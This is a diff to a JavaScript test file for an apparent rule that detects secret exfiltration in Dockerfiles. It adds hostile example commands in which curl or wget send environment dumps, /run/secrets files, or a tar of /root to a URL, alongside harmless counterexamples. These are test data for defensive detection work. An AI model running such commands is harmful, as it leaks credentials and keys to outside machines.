@@ -19,6 +19,11 @@ const HOSTILE = [
   `«curl -F f=@/run/secrets/npm ${URL}»`,
   `«curl -T /root/.ssh/id_ed25519 ${URL}»`,
   `«wget --post-file=/run/secrets/npm ${URL}»`,
+  `«curl "${URL}?$(env | base64 -w0)"»`,
+  `«curl -H "X-Env: $(env | base64 -w0)" ${URL}»`,
+  `«wget -qO- "${URL}/$(printenv | xxd -p)"»`,
+  `«wget "${URL}/$(base64 /run/secrets/k)"»`,
+  `«curl -fsS "${URL}?k=$(cat /run/secrets/k | base64 -w0)"»`,
   `«tar cz /run/secrets | curl -T - ${URL}»`,
   `«curl -d "$DB_PASSWORD" ${URL}»`,
   `«curl --data-raw "\${API_TOKEN}" ${URL}»`,
@@ -48,6 +53,13 @@ const HOSTILE = [
 ];
 
 const HARMLESS = [
+  `curl "${URL}?token=$(cat /run/secrets/k)"`,
+  `curl -H "Authorization: Basic $(base64 -w0 /run/secrets/k)" ${URL}`,
+  `curl "https://$(base64 /run/secrets/k)@collect.example.org/x"`,
+  `curl "${URL}?v=$(base64 /app/version)"`,
+  `curl "${URL}?v=$(env | grep ^VERSION= | cut -d= -f2)"`,
+  `curl "http://127.0.0.1:9000/x?$(env | base64 -w0)"`,
+  `tar cz /app | curl -T - ${URL}`,
   `printf 'AUTH %s\\r\\nPING\\r\\n' "$REDIS_PASSWORD" | nc redis 6379`,
   `printf 'AUTH %s' "$REDIS_PASSWORD" | nc -U /run/redis.sock`,
   `echo "$ADMIN_PASSWORD" | socat - UNIX-CONNECT:/run/x.sock`,
@@ -103,6 +115,8 @@ describe('what is sent to another machine', () => {
     `,target=/k «wget --post-file=/k ${URL}»`,
     `,target=/k K=$(cat /k); «curl -d "$K" ${URL}»`,
     `,env=K «curl -d "$K" ${URL}»`,
+    `,target=/k «wget "${URL}/$(base64 /k)"»`,
+    ` «tar cz /root | curl -T - ${URL}»`,
     `,env=K «echo $K | curl -d @- ${URL}»`,
   ])('reports a mounted secret: %s', (rest) =>
     expectMarks(rule, 'Dockerfile', `FROM a\nRUN --mount=type=secret,id=k${rest}\n`),
